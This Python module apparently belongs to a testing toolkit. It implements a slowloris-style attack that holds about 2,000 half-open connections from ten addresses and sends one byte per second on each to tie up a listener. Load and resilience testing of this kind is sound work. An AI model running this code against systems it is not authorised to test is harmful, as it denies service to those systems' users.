"""Openings that never come to their end, byte by byte: the same on every listener."""

import asyncio
from collections.abc import Awaitable, Callable

from tools.attacks.outcome import OPEN, SILENT, Outcome
from tools.attacks.pace import swarm
from tools.attacks.target import ATTACKERS, Effort, Target
from tools.attacks.wire import connect, drop

Answer = Callable[[asyncio.StreamReader, float], Awaitable[str]]
"""How the listener took what was sent, within so many seconds."""


async def drip(
    target: Target, effort: Effort, what: str, content: bytes, answer: Answer, *, secure: bool = False
) -> Outcome:
    """Begin 2,000 openings from ten addresses and send a byte a second on each, until they are cut or time is up."""
    count = effort.of(2000)
    outcome = Outcome(f"{count} half-open {what} from 10 addresses, 1 byte/s each")
    loop = asyncio.get_running_loop()
    until = loop.time() + target.past_handshakes(effort)

    async def one(number: int) -> str:
        reader, writer = await connect(target, ATTACKERS[number % 10], secure=secure)
        end = OPEN
        for at in range(len(content)):
            writer.write(content[at : at + 1])
            answered = await answer(reader, 1.0)
            if answered != SILENT:
                end = answered
                break
            if loop.time() > until:
                break
        drop(writer)
        return end

    await swarm(outcome, one, per_s=effort.of(1000), seconds=effort.seconds, most=count, at_once=count)
    return outcome
